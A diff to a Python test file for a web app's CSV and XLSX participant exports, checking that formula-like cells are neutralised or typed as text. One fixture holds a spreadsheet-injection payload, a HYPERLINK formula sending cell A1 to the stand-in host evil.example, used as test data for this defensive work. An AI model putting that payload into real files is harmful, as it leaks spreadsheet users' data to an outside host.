@@ -9,10 +9,11 @@ from sqlalchemy import select
 
 from tests.edge import rules
 from tests.factories import PERSON
-from webapp.admin.exports import csv_bytes, download_name, neutralised, xlsx_bytes
+from webapp.admin.exports import csv_bytes, download_name, xlsx_bytes
 from webapp.audit import AuditEntry
 from webapp.extensions import db
 from webapp.registrations.models import Question
+from webapp.spreadsheets import csv_cell
 
 TRAP = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
 
@@ -55,26 +56,33 @@ def test_the_csv_holds_the_chosen_columns_with_accents_and_no_formula(sud_client
     assert "example.org" not in response.data.decode("utf-8-sig")
 
 
-def test_the_xlsx_opens_in_openpyxl_with_text_cells_only(sud_client, make_event):
+def test_the_xlsx_types_its_cells_and_text_is_safe_by_type(sud_client, make_event):
     event, question = _event_with_people(make_event)
     response = sud_client.get(
         f"/admin/events/{event.id}/participants.xlsx",
-        query_string={"column": ["first_name", "last_name", "position", question.field_name]},
+        query_string={
+            "column": ["first_name", "last_name", "position", "registered_at", question.field_name]
+        },
     )
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = [[cell for cell in row] for row in sheet.iter_rows()]
-    # The page's order of columns, whatever the order asked.
+    # The page's order of columns, whatever the order asked; the header row frozen.
     assert [c.value for c in rows[0]] == [
         "Nom",
         "Prénom",
         "Place en liste d'attente",
-        "'@Besoins particuliers",
+        "Inscrit·e le",
+        "@Besoins particuliers",
     ]
+    assert sheet.freeze_panes == "A2"
     trap_row = next(r for r in rows if r[0].value == "Désiré")
-    assert trap_row[1].value == "'" + TRAP
-    assert all(cell.data_type in ("s", "n") for row in rows for cell in row if cell.value)
-    assert len(rows[0]) == 4
+    # A string cell: text by its type, shown as typed, without the CSV's apostrophe.
+    assert trap_row[1].value == TRAP and trap_row[1].data_type == "s"
+    assert trap_row[4].value == "+32 2 123 45 67" and trap_row[4].data_type == "s"
+    assert trap_row[3].is_date and trap_row[3].value.year >= 2026
+    assert all(cell.data_type in ("s", "n", "d") for row in rows for cell in row if cell.value)
+    assert len(rows[0]) == 5
 
 
 def test_each_export_writes_who_downloaded_which_columns(sud_client, make_event):
@@ -113,11 +121,13 @@ def test_the_file_name_is_ascii_without_quotes_or_line_breaks(sud_client, make_e
     assert download_name("x", '"\r\n', "csv") == "x.csv"
 
 
-def test_cells_are_neutralised_and_numbers_stay_numbers():
+def test_csv_cells_are_neutralised_and_xlsx_cells_typed():
     for typed in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
-        assert neutralised(typed) == "'" + typed
-    assert neutralised(3) == 3 and neutralised(None) == "" and neutralised("Anne") == "Anne"
+        assert csv_cell(typed) == "'" + typed
+    assert csv_cell(3) == "3" and csv_cell(None) == "" and csv_cell("Anne") == "Anne"
+    assert csv_cell(16.3) == "16,3" and csv_cell(True) == "Oui"
     rows = _csv_rows(csv_bytes(["a;b"], [['x;"y"\nz']]))
     assert rows == [["a;b"], ['x;"y"\nz']]
-    sheet = load_workbook(io.BytesIO(xlsx_bytes("t[1]", ["h"], [["a\x01b"], [7]]))).active
-    assert [c.value for c in sheet["A"]] == ["h", "a b", 7]
+    sheet = load_workbook(io.BytesIO(xlsx_bytes("t[1]", ["h"], [["a\x01b"], [7], ["=1+1"]]))).active
+    assert [c.value for c in sheet["A"]] == ["h", "a b", 7, "=1+1"]
+    assert [c.data_type for c in sheet["A"]] == ["s", "s", "n", "s"]
